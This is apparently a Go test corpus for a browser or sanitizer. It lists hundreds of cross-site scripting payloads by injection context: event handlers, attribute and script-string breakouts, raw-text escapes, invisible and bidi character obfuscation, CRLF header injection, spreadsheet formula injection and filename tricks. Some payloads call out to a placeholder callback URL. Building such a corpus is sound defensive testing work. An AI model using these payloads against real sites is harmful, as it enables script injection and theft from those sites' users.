package browser

import (
	"fmt"
	"strings"
)

// The payloads, a pattern a line. Those that need characters that nobody sees
// in a source are written with escapes.

func families() []family {
	return []family{
		{inBody, lines(scripts)}, {inBody, handlers()}, {inBody, lines(foreign)}, {inBody, lines(requests)}, {inBody, invisible()}, {inBody, long()},
		{inDouble, breakouts(`"`)}, {inSingle, breakouts(`'`)}, {inBare, lines(bare)},
		{inLink, append(lines(links), "java\tscript:ran({n})", "java\nscript:ran({n})", "\x01javascript:ran({n})", "javascript:\u2028ran({n})")},
		{inFrame, lines(frames)}, {inStyle, lines(styles)}, {inStyleOf, lines(styleAttributes)},
		{inScript, quoted(`"`)}, {inScriptSingle, quoted(`'`)}, {inScriptText, lines(scriptTemplates)},
		{inScriptLine, []string{"x\u2028ran({n})", "x\u2029ran({n})", "x\nran({n})", "x\rran({n})"}},
		{inScriptComment, lines(scriptComments)}, {inComment, lines(comments)},
		{inTextarea, closing("textarea")}, {inTitle, closing("title")}, {inRaw, raw()},
		{inMarkdown, append(lines(markdown), "```html\n<script>ran({n})</script>\n```", "[x][y]\n[y]: javascript:ran({n})", "x\n===\n<img src=x onerror=ran({n})>")},
		{inTemplate, lines(templates)}, {decoded, lines(entities)}, {unescaped, lines(escapes)}, {fromUTF7, lines(utf7)}, {folded, lines(wide)},
		{stripped, hidden()}, {filtered, lines(filters)},
		{inTable, append(lines(formulas), "\t=1+{n}", "\r=1+{n}", "x\n=1+{n}", "x\r\n+{n}-1")},
		{asFileName, append(lines(fileNames), "{n}.txt\x00.html", "a\r\nX-Ran: {n}", "\u202egpj.{n}.exe", strings.Repeat("n", 260)+"{n}.html")},
	}
}

func lines(s string) []string { return strings.Split(strings.TrimSpace(s), "\n") }

// handlers are events that fire by themselves, events of people at many
// elements, and one handler in many spellings.
func handlers() (all []string) {
	all = lines(`
<img src=x onerror=ran({n})>
<img srcset=x onerror=ran({n})>
<video src=x onerror=ran({n})></video>
<audio src=x onerror=ran({n})></audio>
<video><source src=x onerror=ran({n})></video>
<object data=x{n} onerror=ran({n})></object>
<input type=image src=x onerror=ran({n})>
<link rel=stylesheet href=x onerror=ran({n})>
<iframe onload=ran({n})></iframe>
<body onload=ran({n})>
<body onpageshow=ran({n})>
<style onload=ran({n})></style>
<link rel=stylesheet href=data:text/css, onload=ran({n})>
<details open ontoggle=ran({n})>x</details>
<input autofocus onfocus=ran({n})>
<textarea autofocus onfocus=ran({n})></textarea>
<select autofocus onfocus=ran({n})></select>
<button autofocus onfocus=ran({n})>x</button>
<a href=#x autofocus onfocus=ran({n})>x</a>
<p tabindex=1 autofocus onfocus=ran({n})>x</p>
<p contenteditable autofocus onfocus=ran({n})>x</p>
<style>@keyframes k{}</style><p style=animation:k onanimationstart=ran({n})>x</p>
<audio src=data:audio/wav;base64, onerror=ran({n})></audio>
<video src=x onloadstart=ran({n})></video>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=ran({n})>
<IMG SRC=x ONERROR=ran({n})>
<img src=x onerror="ran({n})">
<img src=x onerror='ran({n})'>
<img/src="x"/onerror=ran({n})>
<img src=x onerror = ran({n}) >
<img onerror=ran({n}) src>
<img src=x onerror=&#114;an({n})>
<img src=x onerror=&#x72;an&lpar;{n}&rpar;>
<img src=x onerror=javascript:ran({n})>
<img src=x onerror="ran&#x28;{n}&#x29;//"
<img """><img src=x onerror=ran({n})>">
<img src=` + "``" + ` onerror=ran({n})>
<x><img src=x onerror=ran({n})></x>
<img src=x onerror=\u0072an({n})>
<img src=x a='>' onerror=ran({n})>
<!--x--><img src=x onerror=ran({n})><!--
<?x <img src=x onerror=ran({n})>?><img src=x onerror=ran({n})>
</x><img src=x onerror=ran({n})>
<img src=x onerror=eval("ra"+"n({n})")>
<img src=x onerror=window.onerror=ran;throw[{n}]>
<img src=x onerror=top["ra"+"n"]({n})>
`)
	all = append(all, "<img\nsrc=x\nonerror=ran({n})>", "<img\tsrc=x\tonerror=ran({n})>", "<img\x0csrc=x\x0conerror=ran({n})>", "<img src=x onerror\n=\nran({n})>", "<svg\nonload=ran({n})>", "<script\n>ran({n})</script\n>", "<script\x0c>ran({n})</script>")
	elements := strings.Fields("p b i u q s tt li dd h1 em a x-y center font span code kbd")
	for i, event := range strings.Fields(`click dblclick mouseover mouseenter mousemove mousedown mouseup mouseout mouseleave auxclick contextmenu wheel
		pointerdown pointerup pointermove pointerover pointerenter pointerout pointercancel gotpointercapture lostpointercapture keydown keyup keypress
		input change beforeinput invalid select submit reset formdata copy cut paste drag dragstart dragend dragenter dragover dragleave drop focus blur
		scroll scrollend selectstart toggle beforetoggle cancel close animationend animationiteration
		canplay play pause seeked waiting volumechange ratechange timeupdate ended stalled emptied slotchange securitypolicyviolation beforecopy beforecut beforepaste`) {
		e := elements[i%len(elements)]
		all = append(all, fmt.Sprintf("<%s on%s=ran({n})>x</%s>", e, event, e))
	}
	return all
}

// breakouts leave an attribute by its quote.
func breakouts(quote string) (all []string) {
	for _, pattern := range lines(`
"><script>ran({n})</script>
"><img src=x onerror=ran({n})>
"><svg onload=ran({n})>
"/><script>ran({n})</script>
">x</a><script>ran({n})</script>
"</input><svg/onload=ran({n})>
" onmouseover="ran({n})
" onclick=ran({n}) x="
"onclick=ran({n}) x="
"/onclick=ran({n})//x="
" autofocus onfocus="ran({n})
" autofocus onfocus=&#114;an({n}) x="
" type=image src=x onerror="ran({n})
" style=animation-name:x onmousedown="ran({n})
" tabindex=1 onkeydown="ran({n})
x" ONCLICK="ran({n})
x"><a href=javascript:ran({n})>x</a>
x"><iframe srcdoc='&lt;script&gt;ran({n})&lt;/script&gt;'></iframe>
x"><style>*{background:url({c})}</style>
x"><meta http-equiv=refresh content=0;url={c}>
`) {
		all = append(all, strings.ReplaceAll(pattern, `"`, quote))
	}
	return append(all, "x"+quote+"\tonclick=ran({n}) x="+quote, "x"+quote+"\nonclick=ran({n}) x="+quote, "x"+quote+"\x0conclick=ran({n}) x="+quote)
}

// quoted leave a script's string by its quote.
func quoted(quote string) (all []string) {
	for _, pattern := range lines(`
";ran({n});//
"-ran({n})-"
"+ran({n})+"
",ran({n}),"
"||ran({n})||"
"?0:ran({n})//
";ran({n});"
"*ran({n})*"
"|ran({n})//
";alert({n});//
";location="{c}";//
";document.title="ran {n}";//
x</script><script>ran({n})</script>
x</script><img src=x onerror=ran({n})>
`) {
		all = append(all, strings.ReplaceAll(pattern, `"`, quote))
	}
	return all
}

// closing leave an element in which tags are text.
func closing(element string) (all []string) {
	for _, pattern := range lines(`
</E><script>ran({n})</script>
</E ><img src=x onerror=ran({n})>
</E/x><svg onload=ran({n})>
x</E><iframe srcdoc="<script>ran({n})</script>">
</E><E></E><a href=javascript:ran({n})>x</a>
</E><p onclick=ran({n})>x</p>
</E><style>@import "{c}";</style>
`) {
		all = append(all, strings.ReplaceAll(pattern, "E", element))
	}
	return append(all, "</"+element+"\n><img src=x onerror=ran({n})>", "</"+strings.ToUpper(element)+"><script>ran({n})</script>")
}

// raw leave the other elements in which tags are text. The control puts each
// into the element that it closes.
func raw() (all []string) {
	for _, e := range []string{"style", "xmp", "noembed", "noframes", "noscript", "iframe", "script"} {
		all = append(all, "</"+e+"><script>ran({n})</script>", "x</"+e+" ><img src=x onerror=ran({n})>")
	}
	return all
}

// invisible are characters that reorder, hide or steer, around a payload.
func invisible() (all []string) {
	for _, c := range []rune{0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x200E, 0x200F, 0x061C, 0x200B, 0x2060, 0xFEFF, 0xFFFE, 0x2028, 0x00AD, 0x0000, 0x0007, 0x0008, 0x001B, 0x007F, 0x0085, 0x009B, 0xE0041, 0xFFFD} {
		all = append(all, string(c)+"<img src=x onerror=ran({n})>"+string(c)+"x")
	}
	return append(all,
		"\u202egpj.<svg onload=ran({n})>\u202c", "<script>/*\u202e*/ran({n})/*\u202c*/</script>", "<script>ran({n})//\u2066\u2069</script>", "abc\u202e<p onclick=ran({n})>fed</p>",
		"\u05d0\u05d1<script>ran({n})</script>\u05d2", "\u0627\u0644<script>ran({n})</script>\u0639", "a\u0300\u0301\u0302\u0303\u0304\u0305<svg onload=ran({n})>",
		"\U0001F3F4\u200D\u2620\uFE0F<svg onload=ran({n})>", "\u0430<img src=x onerror=ran({n})>", "Gаmbia<img src=x onerror=ran({n})>", "\x1b]0;x\x07<script>ran({n})</script>", "\x1b[31m<script>ran({n})</script>",
		"x\r\nContent-Type: text/html\r\n\r\n<script>ran({n})</script>", "x\r\n\r\n<img src=x onerror=ran({n})>")
}

// hidden work once something takes out what cannot be seen.
func hidden() (all []string) {
	for _, c := range []string{"\x00", "\x01", "\x7f", "\u00ad", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u202e", "\u2066", "\U000E0020"} {
		all = append(all, "<scr"+c+"ipt>ran({n})</scr"+c+"ipt>", "<"+c+"img src=x onerr"+c+"or=ran({n})>")
	}
	return all
}

// long are long texts, within the longest field and past it.
func long() []string {
	return []string{
		strings.Repeat("A", 200) + "<script>ran({n})</script>", strings.Repeat("word ", 150) + "<script>ran({n})</script>", strings.Repeat("<b>", 90) + "<img src=x onerror=ran({n})>",
		strings.Repeat("<div>", 500) + "<svg onload=ran({n})>", strings.Repeat("&", 250) + "<script>ran({n})</script>", strings.Repeat(`"'`, 125) + "><svg onload=ran({n})>",
		strings.Repeat("\u202b\u0639", 100) + "<svg onload=ran({n})>", strings.Repeat("W", 2900) + "<script>ran({n})</script>", strings.Repeat("\U0001F30D", 280) + "<script>ran({n})</script>",
		strings.Repeat("x ", 4000) + "<script>ran({n})</script>", strings.Repeat("a\u0489", 90) + "<svg onload=ran({n})>",
	}
}
